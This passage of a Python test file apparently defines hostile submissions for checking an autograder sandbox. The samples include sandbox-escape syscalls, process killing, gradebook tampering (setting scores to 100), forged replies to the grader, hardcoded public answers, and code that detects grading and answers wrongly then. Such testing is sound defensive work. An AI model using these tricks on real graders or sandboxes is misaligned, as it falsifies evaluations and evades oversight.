    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", ("127.0.0.1", @port@))
    urllib.request.urlopen("http://127.0.0.1:@port@/", timeout=1)
    print("{LOOT}")
except OSError:
    pass
for family in ("AF_VSOCK", "AF_PACKET", "AF_ALG", "AF_TIPC"):
    try:
        socket.socket(getattr(socket, family), socket.SOCK_STREAM)
        print("{LOOT}", family)
    except (OSError, AttributeError):
        pass"""
_WRITES = f"""import os
import sqlite3

for folder in ("@course@", "@home@", "/proc/1/root@course@", "/inbox/../..@course@"):
    for name in ("gradebook.db", "CANARY", "WRITTEN", ".cnncourse/seed.json"):
        try:
            with open(f"{{folder}}/{{name}}", "a") as file:
                file.write("spoilt")
            print("{LOOT}", folder, name)
        except OSError:
            pass
    try:
        book = sqlite3.connect(f"file:{{folder}}/gradebook.db?mode=rw", uri=True)
        book.execute("update grade set auto_score = 100")
        print("{LOOT}", folder)
    except sqlite3.Error:
        pass
for path in ("/inbox/conv2d.npz", np.__file__, "/usr/bin/python3", "/etc/passwd", "/dev/WRITTEN"):
    try:
        open(path, "ab").write(b"x")
        print("{LOOT}", path)
    except OSError:
        pass
open("/tmp/WRITTEN-@mark@", "w").write("stays inside")
open("/dev/shm/WRITTEN-@mark@", "w").write("stays inside")"""
_DETACHED = """import os
import subprocess

subprocess.Popen(["sleep", "@mark@"])
subprocess.Popen(["sleep", "@mark@"], env={}, start_new_session=True, cwd="/")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 4096)
        os.execve("/usr/bin/sleep", ["sleep", "@mark@"], {})
    os._exit(0)"""
_KILL = """import os
import signal

for pid in (os.getppid(), 1, 2, -2, *range(3, 400)):
    if pid not in (0, os.getpid()):
        for number in (signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(pid, number)
            except OSError:
                pass
os.kill(os.getpid(), signal.SIGKILL)"""
_ESCAPE = f"""import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
calls = {{
    "setuid": lambda: libc.setuid(0),
    "unshare": lambda: libc.unshare(0x10000000),
    "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
    "remount": lambda: libc.mount(b"none", b"/", None, 0x20 | 0x1000, None),
    "umount": lambda: libc.umount2(b"/inbox", 2),
    "ptrace": lambda: libc.ptrace(16, 1, 0, 0),
    "chroot": lambda: libc.chroot(b"/tmp"),
    "setns": lambda: libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0),
    "keyctl": lambda: libc.syscall(250, 0, -3, 0),
    "bpf": lambda: libc.syscall(321, 0, 0, 0),
    "io_uring": lambda: libc.syscall(425, 1, 0),
    "chmod": lambda: libc.chmod(b"/usr/bin", 0o777),
}}
for name, call in calls.items():
    try:
        if call() != -1:
            print("{LOOT}", name)
    except OSError:
        pass
for number in range(64):
    try:
        os.open(f"/proc/self/fd/{{number}}/..", os.O_RDONLY)
        print("{LOOT}", number)
    except OSError:
        pass"""
_AHEAD = """import json
import os

for number in range(1, 60):
    data = json.dumps({"id": number, "state": "done", "events": []}).encode()
    os.write(3, len(data).to_bytes(4, "big") + data)"""
_CHANNEL = """import json
import os
import traceback

frames = [frame for frame, _ in traceback.walk_stack(None)]
(asked,) = {f.f_locals["request"]["id"] for f in frames if f.f_code.co_name == "serve"}
for number in [asked, *range(asked + 1, asked + 40)]:
    data = json.dumps({"id": number, "state": "done", "events": []}).encode()
    os.write(3, len(data).to_bytes(4, "big") + data)"""
_NONSENSE = """import os

os.write(3, b"\\xff" * 100)"""

_ESCAPES = [
    Hostile("network", _OUT, "connects to this machine and to others", "wrong", cell=_NETWORK),
    Hostile(
        "writes-the-gradebook",
        _OUT,
        "writes gradebook, seed, canaries, libraries",
        "wrong",
        cell=_WRITES,
    ),
    Hostile(
        "leaves-processes",
        _OUT,
        "detached processes with an empty environment",
        "wrong",
        cell=_DETACHED,
    ),
    Hostile(
        "kills-its-parent",
        _OUT,
        "kills and stops every process it can name",
        "wrong",
        cell=_KILL,
        ran=False,
        anomalies=[_ENDED],
    ),
    Hostile("escapes", _OUT, "system calls that lead out of a sandbox", "wrong", cell=_ESCAPE),
    Hostile(
        "guessed-replies",
        _OUT,
        "answers the grader ahead of every request",
        "wrong",
        cell=_AHEAD,
        ran=False,
        anomalies=[_ENDED],
    ),
    Hostile(
        "forged-replies",
        _OUT,
        "answers the grader itself, with what the request asked for",
        "wrong",
        cell=_CHANNEL,
        ran=False,
    ),
    Hostile(
        "nonsense-replies",
        _OUT,
        "talks nonsense to the grader",
        "wrong",
        cell=_NONSENSE,
        ran=False,
        anomalies=[_ENDED],
    ),
]

# Watched ------------------------------------------------------------------------------------------

# Right for the public questions only, which every student may look at.
_PUBLIC = """def dense_parameters(height, width, channels, units):
    known = {(5, 4, 3, 2): 122, (28, 28, 1, 10): 7850}
    return known.get((height, width, channels, units), 0)"""
_AT_HOME = """{answer}


def at_home(function):
    import os

    return function if "CNNCOURSE_INBOX" not in os.environ else lambda *args: 0


{name} = at_home({name}) if callable({name}) else {name}"""
_LAST_TIME = """{answer}


calls = []


def changing(function):
    def call(*args):
        calls.append(args)
        value = np.array(function(*args), dtype=float)
        for earlier in calls[:-1]:
            earlier[0][...] = 0  # the questions that it was given before
        return value

    return call


{name} = changing({name})"""
_DEMO_ONLY = {ALL: "failed", "map_shape": "passed", "edge_kernel": "passed"}

_AWARE = [
    Hostile(
        "knows-the-public-questions",
        _WATCHED,
        "knows the answers to the public questions",
        written={"dense_parameters": _PUBLIC},
        states={"dense_parameters": "failed"},
        says={"dense_parameters": "2 of 3 cases pass"},
    ),
    Hostile(
        "right-at-home-only",
        _WATCHED,
        "notices that it is graded, and answers wrongly then",
        written={ALL: _AT_HOME},
        states=_DEMO_ONLY,
    ),
    Hostile(
        "changes-earlier-questions",
        _WATCHED,
        "writes into earlier questions",
        written={"feature_map": _LAST_TIME},
    ),
]

ATTACKS = [*_BEHAVIOUR, *_GREED, *_REPLACED, *_FORGERIES, *_SEARCHES, *_ESCAPES, *_AWARE]
